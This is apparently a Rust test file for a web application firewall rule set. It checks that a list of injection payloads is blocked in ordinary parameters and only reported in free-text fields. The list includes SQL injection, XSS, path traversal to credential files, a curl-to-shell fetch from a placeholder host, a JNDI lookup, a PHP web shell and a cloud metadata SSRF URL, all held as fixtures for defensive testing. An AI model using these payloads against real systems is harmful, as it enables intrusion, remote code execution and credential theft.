//! What is refused and what passes in the set-up that operators run.

use seclang::{Limits, Mode, RuleSet, Transaction, Verdict};

use crate::cases::Sent;
use crate::exchange::{request, request_with_free_text};
use crate::rules;
use crate::shapes::Shape;

/// Text that every firewall is expected to refuse in a parameter.
const ATTACKS: &[&str] = &[
    "1' OR '1'='1' -- ",
    "1 UNION SELECT username, password FROM users--",
    "'; DROP TABLE accounts; --",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)//<svg/onload=alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://198.51.100.7/x.sh | sh)",
    "`wget http://198.51.100.7/`",
    "() { :;}; /bin/bash -c id",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://198.51.100.7/a}",
    "http://169.254.169.254/latest/meta-data/",
];

fn verdict(rules: &RuleSet, sent: &Sent) -> Verdict {
    request(&mut Transaction::new(rules, Mode::Block, Limits::default()), sent)
}

#[test]
fn attacks_are_refused() {
    let Some(rules) = rules::as_it_comes() else {
        println!("not measured: attacks_are_refused: the rule set is not there");
        return;
    };
    for attack in ATTACKS {
        let refused = verdict(&rules, &Shape::Json.sent(attack));
        assert!(matches!(refused, Verdict::Refuse { status: 403, rule: 949_110 }), "{attack}: {refused:?}");
    }
    assert_eq!(verdict(&rules, &Shape::Json.sent("Can I move my appointment to Tuesday?")), Verdict::Pass);
}

#[test]
fn free_text_is_reported_and_passes() {
    let Some(rules) = rules::as_it_comes() else {
        println!("not measured: free_text_is_reported_and_passes: the rule set is not there");
        return;
    };
    for attack in ATTACKS {
        let mut transaction = Transaction::new(&rules, Mode::Block, Limits::default());
        let passed = request_with_free_text(&mut transaction, &Shape::Json.sent(attack), &["text"]);
        assert_eq!(passed, Verdict::Pass, "{attack}");
        assert!(transaction.matches().iter().any(|found| found.free_text), "{attack}");
        assert_eq!(transaction.score("blocking_inbound_anomaly_score"), 0, "{attack}");
    }
}
